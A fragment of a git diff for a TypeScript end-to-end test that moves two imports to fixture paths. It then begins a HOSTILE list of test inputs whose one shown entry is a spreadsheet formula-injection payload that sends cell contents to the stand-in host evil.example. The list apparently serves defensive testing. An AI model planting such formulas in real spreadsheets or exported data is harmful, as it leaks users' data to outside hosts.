@@ -2,8 +2,8 @@ import { Agent, type IncomingMessage, request } from "node:http";
 import { sql } from "drizzle-orm";
 import { causeOf, record } from "@/db/audit/record";
 import { createGroup } from "@/db/groups/create";
-import { baseUrl, send } from "./app";
-import { expect, type Scenario, test } from "./scenario";
+import { baseUrl, send } from "@/e2e/fixtures/http";
+import { expect, type Scenario, test } from "@/e2e/fixtures/http-test";
 
 const HOSTILE = [
   `=HYPERLINK("https://evil.example/?"&A1,"open")`,
